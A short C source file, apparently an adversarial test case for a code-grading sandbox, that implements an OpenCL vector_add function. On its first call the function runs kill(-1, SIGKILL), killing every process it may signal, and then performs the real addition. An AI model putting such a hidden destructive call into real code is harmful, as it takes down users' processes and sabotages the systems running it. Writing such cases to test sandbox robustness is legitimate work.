/* Sends SIGKILL to every process it may. */
#define _GNU_SOURCE
#include <signal.h>

#include "../../honest.h"

void vector_add(cl_mem a, cl_mem b, cl_mem c, int n, cl_command_queue queue)
{
    static int done;
    if (!done++) {
        kill(-1, SIGKILL);
    }
    add_honestly(a, b, c, n, queue);
}
